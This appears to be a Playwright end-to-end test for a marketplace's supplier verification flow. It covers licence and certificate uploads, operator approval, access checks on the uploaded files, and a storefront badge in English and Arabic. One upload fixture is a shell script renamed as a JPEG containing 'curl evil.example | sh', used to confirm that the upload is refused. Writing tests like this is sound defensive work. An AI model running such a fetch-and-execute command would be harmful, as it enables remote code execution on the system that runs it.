import { createSupplierCompany } from "./support/evidence-db.ts";
import { expect, type Page, test } from "./support/test.ts";

const PASSWORD = "caravan-demo";
const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

async function signIn(page: Page, email: string, returnTo: string) {
  await page.goto(`/login?returnUrl=${encodeURIComponent(returnTo)}`);
  await page.getByLabel("E-mail").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByRole("button", { name: "Sign out" })).toBeVisible();
}

test.describe("verification evidence", () => {
  test("a supplier uploads a licence, the operator approves it, and the storefront shows the badge and what was checked", async ({
    page,
    browser,
    baseURL,
  }, testInfo) => {
    test.slow(); // a supplier and an operator, an upload, a review and the storefront in one story
    const tag = `${testInfo.project.name}-${Date.now() % 1_000_000}`;
    const supplier = createSupplierCompany(tag);
    const storefront = `/x/co/detail/${supplier.companyId}`;

    // Before any evidence: no badge, no Verified section.
    await page.goto(storefront);
    await expect(page.getByRole("heading", { level: 1, name: supplier.name })).toBeVisible();
    await expect(page.getByTestId("verified-section")).toHaveCount(0);

    await signIn(page, supplier.email, "/supplier/company/verification");
    await expect(page.getByRole("heading", { level: 1, name: "Verification documents" })).toBeVisible();
    const form = page.locator("#evidence-form");
    await form.getByLabel("Document type").selectOption("business_licence");

    // A script renamed .jpg is refused with a clear message, and nothing is listed.
    await form.getByLabel(/^File/).setInputFiles({
      name: "licence.jpg",
      mimeType: "image/jpeg",
      buffer: Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"),
    });
    await form.getByRole("button", { name: "Save" }).click();
    await expect(form.getByText("This type of file is not accepted.", { exact: false })).toBeVisible();
    await expect(page.getByText("No documents yet.")).toBeVisible();

    await form.getByLabel("Document type").selectOption("business_licence");
    await form.getByLabel("Expiry date (if any)").fill("2030-06-30");
    await form.getByLabel(/^File/).setInputFiles({
      name: "licence.pdf",
      mimeType: "application/pdf",
      buffer: PDF,
    });
    await form.getByRole("button", { name: "Save" }).click();
    await expect(page.getByText("Saved. The operator will review it.")).toBeVisible();
    const row = page.getByRole("listitem").filter({ hasText: "Business licence" });
    await expect(row.getByText("Waiting for review")).toBeVisible();
    await page.screenshot({ path: testInfo.outputPath("supplier-verification.png"), fullPage: true });

    // A certificate, from the workspace's navigation.
    await page
      .getByRole("navigation", { name: "Workspace sections" })
      .getByRole("link", { name: "Certificates" })
      .click();
    await expect(page.getByRole("heading", { level: 1, name: "Certificates" })).toBeVisible();
    const certificateForm = page.locator("#evidence-form");
    await certificateForm.getByLabel(/^Certificate name/).fill("ISO 9001");
    await certificateForm.getByLabel("Issuing body").fill("TÜV Nord");
    await certificateForm.getByLabel("Valid from").fill("2025-01-01");
    await certificateForm.getByLabel("Valid until").fill("2028-01-01");
    await certificateForm
      .getByLabel(/^File/)
      .setInputFiles({ name: "iso.pdf", mimeType: "application/pdf", buffer: PDF });
    await certificateForm.getByRole("button", { name: "Save" }).click();
    await expect(page.getByText("Saved. The operator will review it.")).toBeVisible();
    await expect(
      page.getByRole("listitem").filter({ hasText: "ISO 9001" }).getByText("Waiting for review"),
    ).toBeVisible();
    await page.screenshot({ path: testInfo.outputPath("supplier-certificates.png"), fullPage: true });

    // The operator, in a session of their own.
    const operatorContext = await browser.newContext({ baseURL: baseURL!, viewport: page.viewportSize()! });
    const operator = await operatorContext.newPage();
    await signIn(operator, "admin@caravan.test", "/admin/suppliers/evidence");
    await expect(operator.getByRole("heading", { level: 1, name: "Evidence to review" })).toBeVisible();
    const queued = operator.getByRole("listitem").filter({ hasText: supplier.name });
    await expect(queued).toHaveCount(2);
    await operator.screenshot({ path: testInfo.outputPath("operator-queue.png"), fullPage: true });
    await queued
      .first()
      .getByRole("link", { name: /Review/ })
      .click();
    await expect(
      operator.getByRole("heading", { level: 1, name: `Evidence of ${supplier.name}` }),
    ).toBeVisible();
    const item = operator.getByRole("listitem").filter({ hasText: "Business licence" });
    const fileLink = item.getByRole("link", { name: /Open the file/ });
    const file = await operator.request.get((await fileLink.getAttribute("href"))!);
    expect(file.status()).toBe(200);
    expect(file.headers()["content-type"]).toBe("application/pdf");
    expect(file.headers()["content-security-policy"]).toMatch(/^sandbox;/);
    // A visitor asking for the same file gets nothing.
    const visitor = await browser.newContext({ baseURL: baseURL! });
    expect((await visitor.request.get(file.url())).status()).toBe(404);
    await visitor.close();
    await item.getByRole("button", { name: /Approve/ }).click();
    await expect(operator.getByText("Approved. The company's owners were told.")).toBeVisible();
    const certificate = operator.getByRole("listitem").filter({ hasText: "ISO 9001" });
    await certificate.getByRole("button", { name: /Approve/ }).click();
    await expect(certificate.getByText("Approved", { exact: true })).toBeVisible();
    await operator.screenshot({ path: testInfo.outputPath("operator-review.png"), fullPage: true });
    await operatorContext.close();

    // The supplier sees the decision; buyers see the badge and what was checked.
    await page.goto("/supplier/company/verification");
    await expect(row.getByText("Approved")).toBeVisible();
    await page.goto(storefront);
    await expect(page.getByText("Verified", { exact: true }).first()).toBeVisible();
    const section = page.getByTestId("verified-section");
    await expect(section.getByRole("heading", { name: "Verified" })).toBeVisible();
    await expect(section).toContainText(/Business licence checked on .+, valid until .*2030/);
    await expect(section).toContainText(/ISO 9001 certificate checked on .+, valid until .*2028/);
    // Nothing overflows sideways on a phone.
    expect(
      await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
    ).toBeLessThanOrEqual(0);
    await page.screenshot({ path: testInfo.outputPath("storefront.png"), fullPage: true });

    // The same in Arabic, right to left.
    const arabic = baseURL!.replace("localhost", "ar.localhost");
    // Another language is another host; the session cookie does not follow, so sign in there.
    await page.goto(`${arabic}/login?returnUrl=%2Fsupplier%2Fcompany%2Fverification`);
    await page.locator('input[name="email"]').fill(supplier.email);
    await page.locator('input[name="password"]').fill(PASSWORD);
    await page.locator('input[name="password"]').press("Enter");
    await page.waitForURL((url) => url.pathname === "/supplier/company/verification");
    await expect(page.locator("html")).toHaveAttribute("dir", "rtl");
    await expect(page.getByRole("heading", { level: 1, name: "مستندات التوثيق" })).toBeVisible();
    await expect(
      page.getByRole("listitem").filter({ hasText: "الرخصة التجارية" }).getByText("معتمد"),
    ).toBeVisible();
    await page.screenshot({ path: testInfo.outputPath("supplier-verification-ar.png"), fullPage: true });
    await page.goto(`${arabic}${storefront}`);
    await expect(page.getByTestId("verified-section").getByRole("heading", { name: "موثَّق" })).toBeVisible();
    await expect(page.getByTestId("verified-section")).toContainText("الرخصة التجارية");
    await page.screenshot({ path: testInfo.outputPath("storefront-ar.png"), fullPage: true });
  });
});
